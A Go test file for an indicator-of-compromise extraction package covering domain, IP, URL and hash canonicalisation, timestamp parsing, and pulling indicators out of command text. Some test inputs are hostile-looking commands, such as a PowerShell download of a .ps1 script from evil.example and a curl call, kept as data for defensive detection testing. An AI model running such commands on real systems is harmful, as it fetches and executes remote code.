package extract

import (
	"testing"
	"time"

	"github.com/iocflow/iocflow/feeds/ioc"
	"github.com/iocflow/iocflow/pipeline/event"
)

func TestAdder_FastMatchesIOC(t *testing.T) {
	cases := []struct {
		t   ioc.Type
		raw string
	}{
		{ioc.Domain, "WWW.Example.COM."}, {ioc.Domain, "_ldap._tcp.example.org"},
		{ioc.Domain, "1.2.3.4"}, {ioc.Domain, "01.2.3.4"}, {ioc.Domain, "bücher.example"},
		{ioc.IPv4, "::ffff:10.0.0.1"}, {ioc.IPv6, "FE80:0000:0000:0000:feec:daff:fe31:b706"},
		{ioc.MD5, "44D88612FEA8A8F36DE82E1278ABB02F"},
		{ioc.URL, "HTTP://Example.COM:80/a?b"}, {ioc.URL, "https://example.com:443"},
		{ioc.URL, "http://example.com/a/../b"}, {ioc.URL, "http://example.com/%7e"},
		{ioc.URL, "ftp://1.2.3.4:2121/x"}, {ioc.URL, "http://user@example.com/"},
		{ioc.URL, "http://example.com/a?"}, {ioc.URL, "http://example.com?"},
		{ioc.URL, "http://example.com:70000/"}, {ioc.URL, "http://example.com:65535/"},
		{ioc.FileName, "Setup.EXE"}, {ioc.UserAgent, "curl/8"}, {ioc.Text, " cmd "},
	}
	for _, c := range cases {
		var ev event.Event
		var ar Arena
		a := Adder{}
		a.Reset(&ev, &ar)
		a.Add(c.t, []byte(c.raw), "f")
		want, err := ioc.CanonicalObservable(c.t, c.raw)
		if c.t.IsIP() {
			if addr, e := ioc.ParseAddr(c.raw); e == nil {
				want, err = addr.String(), nil
			}
		}
		switch {
		case err != nil && len(ev.Skipped) != 1:
			t.Errorf("%s %q: ioc rejects it (%v) but the adder gave %v", c.t, c.raw, err,
				ev.Observables)
		case err == nil && (len(ev.Observables) != 1 || ev.Observables[0].Value != want):
			t.Errorf("%s %q: got %v, want %q", c.t, c.raw, ev.Observables, want)
		}
	}
}

// FuzzAdder checks the fast paths against package ioc, the definition of
// canonical forms.
func FuzzAdder(f *testing.F) {
	for _, s := range []string{"Example.COM", "http://a.example:8080/x?y=1", "1.2.3.4",
		"2001:DB8::1", "A://A.0", "HTTPS://x.example", "http://x.example/./a", "a..b",
		"44D88612FEA8A8F36DE82E1278ABB02F"} {
		f.Add(uint8(ioc.Domain), s)
		f.Add(uint8(ioc.URL), s)
		f.Add(uint8(ioc.IPv4), s)
		f.Add(uint8(ioc.MD5), s)
	}
	f.Fuzz(func(t *testing.T, typ uint8, raw string) {
		ty := ioc.Type(typ % uint8(ioc.NumTypes))
		if !ty.IsValid() || IsMissing([]byte(raw)) {
			return
		}
		var ev event.Event
		var ar Arena
		var a Adder
		a.Reset(&ev, &ar)
		a.Add(ty, []byte(raw), "f")
		for _, o := range ev.Observables {
			c, err := ioc.CanonicalObservable(o.Type, o.Value)
			if err != nil || c != o.Value {
				t.Fatalf("%s %q gave %s %q, not canonical (%q, %v)", ty, raw, o.Type, o.Value, c, err)
			}
			if ty.IsIP() {
				continue
			}
			want, err := ioc.CanonicalObservable(ty, raw)
			if err != nil || want != o.Value {
				t.Fatalf("%s %q: fast path gave %q, ioc gives %q, %v", ty, raw, o.Value, want, err)
			}
		}
	})
}

func TestParseTime_Layouts(t *testing.T) {
	want := time.Date(2021, 1, 5, 13, 19, 6, 0, time.UTC)
	for _, s := range []string{"2021-01-05T14:19:06+0100", "2021-01-05 14:19:06 +0100",
		"2021-01-05T13:19:06Z", "2021-01-05T13:19:06.000Z", "2021-01-05 13:19:06",
		"1609852746", "1609852746000", "1609852746.000", "Tue Jan  5 13:19:06 2021 UTC",
		"Jan 5 2021 13:19:06 GMT", "2021/01/05 13:19:06", "2021-01-05 13:19:06 UTC"} {
		got, err := Time(s)
		if err != nil || !got.Equal(want) {
			t.Errorf("Time(%q) = %v, %v; want %v", s, got, err, want)
		}
	}
	for _, s := range []string{"2021-02-30T00:00:00Z", "2021-01-05T25:00:00Z", "soon",
		"2021-01-05T13:19:06+2500", "2021-01-05T13:19:06.1234567890Z"} {
		if got, err := Time(s); err == nil {
			t.Errorf("Time(%q) = %v, want an error", s, got)
		}
	}
}

func TestText_Extracts(t *testing.T) {
	type o struct {
		t ioc.Type
		v string
	}
	cases := []struct {
		in   string
		want []o
	}{
		{`powershell -c "iwr http://evil.example/a.ps1 -OutFile C:\x\evil.com"`, []o{
			{ioc.URL, "http://evil.example/a.ps1"}}},
		{`python setup.py install && bash run.sh; ping update.evil.co.uk`, []o{
			{ioc.Domain, "update.evil.co.uk"}}},
		{`notepad.exe file.exe report.docx C:\Windows\System32\notepad.exe`, nil},
		{`connect 203.0.113.7:443 version 10.0.17763.475 and 1.2.3.4.5`, []o{
			{ioc.IPv4, "203.0.113.7"}}},
		{`hash 44D88612FEA8A8F36DE82E1278ABB02F from mail to bob@evil.example.`, []o{
			{ioc.MD5, "44d88612fea8a8f36de82e1278abb02f"}, {ioc.Email, "bob@evil.example"}}},
		{`net use \\fileserver.corp.example\share; see (https://x.example/q?a=1).`, []o{
			{ioc.URL, "https://x.example/q?a=1"}, {ioc.Domain, "fileserver.corp.example"}}},
		{`hxxp://evil[.]example is defanged`, nil},
	}
	for _, c := range cases {
		var ev event.Event
		Text(&ev, c.in, "cmd")
		if len(ev.Observables) == 0 || ev.Observables[0].Type != ioc.Text {
			t.Errorf("%q: no text observable first: %v", c.in, ev.Observables)
			continue
		}
		var got []o
		for _, x := range ev.Observables[1:] {
			got = append(got, o{x.Type, x.Value})
		}
		if len(got) != len(c.want) {
			t.Errorf("%q: got %v, want %v", c.in, got, c.want)
			continue
		}
		for i := range got {
			if got[i] != c.want[i] {
				t.Errorf("%q: got %v, want %v", c.in, got, c.want)
			}
		}
	}
}

func FuzzText(f *testing.F) {
	f.Add(`cmd /c "curl http://a.example/x" 1.2.3.4 evil.example.com`)
	f.Add(`\\host.example.org\c$ 0123456789abcdef0123456789abcdef`)
	f.Fuzz(func(t *testing.T, s string) {
		var ev event.Event
		Text(&ev, s, "f")
		for _, o := range ev.Observables {
			c, err := ioc.CanonicalObservable(o.Type, o.Value)
			if err != nil || c != o.Value {
				t.Fatalf("%q gave non-canonical %s %q", s, o.Type, o.Value)
			}
		}
	})
}
